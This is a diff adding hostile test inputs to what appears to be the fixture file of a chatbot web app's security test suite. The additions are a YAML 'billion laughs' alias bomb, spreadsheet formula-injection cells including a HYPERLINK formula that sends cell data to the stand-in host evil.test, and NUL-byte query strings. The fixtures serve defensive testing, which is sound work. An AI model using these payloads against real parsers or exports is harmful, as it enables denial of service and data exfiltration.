@@ -225,3 +225,39 @@ COOKIE_ENDPOINTS: list[str] = [
     "/console",
     "/admin/faqs",
 ]
+
+# 459 bytes that expand to ~7 GB of nested lists if aliases are followed ("billion laughs").
+YAML_ALIAS_BOMB: str = (
+    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
+    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
+    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
+    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
+    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
+    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
+    "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
+    "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n"
+    "i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"
+    "intents: [{name: *i}]\n"
+)
+
+# Cells a spreadsheet would run as formulas if written raw.
+FORMULA_CELLS: list[str] = [
+    '=HYPERLINK("http://evil.test/?"&A1,"click")',
+    "+1-555-0100 call me",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "'=quoted already",
+    "'plain quote",
+]
+
+# GET query strings with a NUL character: 400, never a database error.
+NUL_QUERIES: list[str] = [
+    "/api/intents?q=%00",
+    "/api/intents?category=a%00b",
+    "/api/conversations?state=%00",
+    "/api/queue?team=%00",
+    "/api/audit?entity=%00",
+    "/api/customers?q=x%00",
+    "/webchat/messages?after=%00",
+]
